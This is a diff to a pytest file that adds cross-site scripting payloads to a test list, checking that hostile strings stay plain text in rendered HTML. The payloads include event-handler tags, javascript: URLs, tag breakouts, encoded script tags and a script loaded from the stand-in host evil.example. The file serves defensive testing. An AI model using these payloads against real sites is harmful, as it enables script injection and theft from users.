@@ -43,6 +43,31 @@ PAYLOADS = [
     "\u2028\u2029\u0000\u0008\u001b[31mred\u007f",
     "cat\u202egnp.exe\u2066\u2069",
     "lone \ud800 surrogate",
+    f"<details open ontoggle={MARK}>",
+    f"<video><source onerror={MARK}></video>",
+    f"<body onload={MARK}>",
+    f"<input onfocus={MARK} autofocus>",
+    f"<object data=javascript:{MARK}>",
+    f"<embed src=javascript:{MARK}>",
+    f"<x contenteditable onblur={MARK} tabindex=1>",
+    f"<svg><script>{MARK}</script></svg>",
+    f"<svg><use href='data:image/svg+xml,<svg onload={MARK}>'>",
+    f"<noscript><p title='</noscript><img src=x onerror={MARK}>'>",
+    f"<template><script>{MARK}</script></template>",
+    f"<dialog open onclose={MARK}>",
+    f"</dialog></main></body></html><script>{MARK}</script>",
+    f"</svg></figure><script>{MARK}</script>",
+    f"</bdi></code></button><script>{MARK}</script>",
+    f"<script src=//evil.example/x.js></script>{MARK}",
+    "<img srcset='https://evil.example/x.png 1x'>",
+    "<picture><source srcset=//evil.example/x.webp></picture>",
+    "url(https://evil.example/x.png)",
+    "data:text/html,<script>alert(1)</script>",
+    f"%3Cscript%3E{MARK}%3C/script%3E",
+    f"\\x3cscript\\x3e{MARK}",
+    f"+ADw-script+AD4-{MARK}+ADw-/script+AD4-",
+    "\uff1cscript\uff1e\u00a0\u200b\u2060zero width",
+    "e\u0301\u0301\u0301\u0301\u0301 combining \U0001f468\u200d\U0001f4bb",
     "__proto__",
     "constructor",
     "NaN",
@@ -98,8 +123,12 @@ def benign(fake):
     return {text: Shape(render(run_with(fake, "name(key=1)", text))) for text in (False, True)}
 
 
-@pytest.mark.parametrize("text", [False, True], ids=["image", "text"])
-@pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
+# A text run has every field a picture run has, and tokens.
+@pytest.mark.parametrize(
+    ("payload", "text"),
+    [pytest.param(p, True, id=f"{i}-text") for i, p in zip(IDS, PAYLOADS, strict=True)]
+    + [pytest.param(p, False, id=f"{i}-image") for i, p in zip(IDS[::6], PAYLOADS[::6], strict=True)],
+)
 def test_a_hostile_string_stays_a_string(fake, benign, payload, text):
     html = render(run_with(fake, payload, text))
     found = Shape(html)
